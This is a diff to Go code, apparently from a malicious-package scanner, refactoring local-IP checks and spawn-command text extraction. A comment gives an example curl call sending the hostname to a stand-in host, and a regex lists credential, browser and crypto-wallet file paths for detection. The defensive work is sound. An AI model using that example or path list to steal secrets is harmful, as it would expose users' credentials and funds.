@@ -73,7 +73,12 @@ func PublicIP(host string) bool {
 	if discardPrefix.Contains(ip) || strings.HasSuffix(host, "::") {
 		return false // RFC 6666's discard-only block, or a bare IPv6 prefix
 	}
-	return !(ip.IsLoopback() || ip.IsPrivate() || ip.IsUnspecified() || ip.IsLinkLocalUnicast() || ip.IsMulticast())
+	return !(localIP(ip) || ip.IsMulticast())
+}
+
+// localIP reports an address of this machine or its private network.
+func localIP(ip net.IP) bool {
+	return ip.IsLoopback() || ip.IsPrivate() || ip.IsUnspecified() || ip.IsLinkLocalUnicast()
 }
 
 // LocalHost reports a host that is this machine or its private network:
@@ -84,7 +89,7 @@ func LocalHost(host string) bool {
 		return true
 	}
 	ip := net.ParseIP(h)
-	return ip != nil && (ip.IsLoopback() || ip.IsPrivate() || ip.IsUnspecified() || ip.IsLinkLocalUnicast())
+	return ip != nil && localIP(ip)
 }
 
 // Hidden reports a spawn started detached with its output discarded or its
@@ -224,16 +229,22 @@ func IsSpawn(c jsast.Call) bool {
 }
 
 // SpawnCommand returns the command text of a spawn call: its first
-// argument folded, or its shape with the run-time parts as jsast.Hole
-// (exec(`curl -d "${os.hostname()}" https://x.example`)).
+// argument's Text.
 func SpawnCommand(c jsast.Call) string {
 	if len(c.Args) > 0 {
-		if c.Args[0].Known {
-			return c.Args[0].Value
-		}
-		return c.Args[0].Shape
+		return Text(c.Args[0])
 	}
 	return ""
+}
+
+// Text returns what is known of an argument's text: its folded value, or
+// its shape with the run-time parts as jsast.Hole
+// (exec(`curl -d "${os.hostname()}" https://x.example`)); "" if neither.
+func Text(a jsast.Arg) string {
+	if a.Known {
+		return a.Value
+	}
+	return a.Shape
 }
 
 var sensitiveStrongRe = regexp.MustCompile(`(?i)(\.ssh[/\\](id_[a-z0-9]+|authorized_keys|known_hosts)|\.aws[/\\]credentials|\.config[/\\]gcloud|\.azure[/\\]|\.kube[/\\]config|\.docker[/\\]config\.json|\.git-credentials|\.netrc|/etc/shadow|login data|local storage[/\\]leveldb|\bcookies\b.*(chrome|brave|edge)|(chrome|brave|edge|opera)[^/\\\n]{0,24}[/\\]+user data|wallet\.dat|electrum[/\\]wallets|exodus[/\\]exodus\.wallet|atomic[/\\]local storage|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|ejbalbakoplchlghecdalmeeeajnimhm|keychain-db|\.bash_history|\.zsh_history|discord(canary|ptb)?[/\\]local storage|\.mozilla[/\\]firefox|key4\.db|logins\.json|\.solana[/\\]id\.json|\.ethereum[/\\]keystore|\.config[/\\]solana)`)
